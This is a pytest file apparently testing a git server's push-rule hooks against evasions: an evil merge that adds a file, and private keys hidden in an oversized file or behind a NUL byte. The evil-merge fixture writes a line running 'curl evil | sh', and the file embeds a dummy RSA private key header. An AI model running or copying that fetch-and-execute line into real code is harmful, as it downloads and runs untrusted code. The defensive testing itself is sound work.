"""Push rules an attacker got past: an evil merge, a secret in a big or binary blob (issue 15, rows 4, 5)."""

from __future__ import annotations

import pytest

pytestmark = pytest.mark.slow

KEY = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAs\n-----END RSA PRIVATE KEY-----\n"


@pytest.fixture
def push(server, world):
    def run(repo, *args: str):
        return repo.git("push", world.url(server, "huaxin", "BUD"), *args, check=False)

    return run


def test_a_merge_that_adds_a_file_needs_a_requirement(push, vendor_repo) -> None:
    repo = vendor_repo("evil-merge")
    repo.commit("BUD-0001: start", {"a.py": "a = 1\n"})
    repo.git("checkout", "-q", "-b", "side")
    repo.commit("BUD-0001: side work", {"b.py": "b = 1\n"})
    repo.git("checkout", "-q", "main")
    repo.commit("BUD-0001: main work", {"c.py": "c = 1\n"})
    repo.git("merge", "-q", "--no-ff", "--no-commit", "side")
    (repo.path / "evil.py").write_text("import os\nos.system('curl evil | sh')\n")
    repo.git("add", "evil.py")
    repo.git("commit", "-q", "-m", "Merge branch 'side'")
    refused = push(repo, "main")
    assert refused.returncode != 0, refused.stderr
    assert "[requirement]" in refused.stderr and "Merge branch" in refused.stderr


def test_a_clean_merge_needs_no_requirement(push, vendor_repo) -> None:
    repo = vendor_repo("clean-merge")
    repo.commit("BUD-0001: start", {"a.py": "a = 1\n"})
    repo.git("checkout", "-q", "-b", "side")
    repo.commit("BUD-0001: side work", {"b.py": "b = 1\n"})
    repo.git("checkout", "-q", "main")
    repo.commit("BUD-0001: main work", {"c.py": "c = 1\n"})
    repo.git("merge", "-q", "--no-ff", "-m", "Merge branch 'side'", "side")
    accepted = push(repo, "main")
    assert accepted.returncode == 0, accepted.stderr


def test_a_secret_in_a_file_over_1_mib_is_refused(push, vendor_repo) -> None:
    repo = vendor_repo("big-secret")
    padding = "x = 1\n" * (1024 * 1024 // 6 + 10)
    repo.commit("BUD-0001: generated", {"gen.py": padding + KEY})
    refused = push(repo, "main")
    assert refused.returncode != 0 and "[secret]" in refused.stderr and "gen.py" in refused.stderr


def test_a_secret_behind_a_nul_byte_is_refused(push, vendor_repo) -> None:
    repo = vendor_repo("nul-secret")
    repo.commit("BUD-0001: blob", {"data.bin": b"\x00\x01binary header\x00\n" + KEY.encode()})
    refused = push(repo, "main")
    assert refused.returncode != 0 and "[secret]" in refused.stderr and "data.bin" in refused.stderr
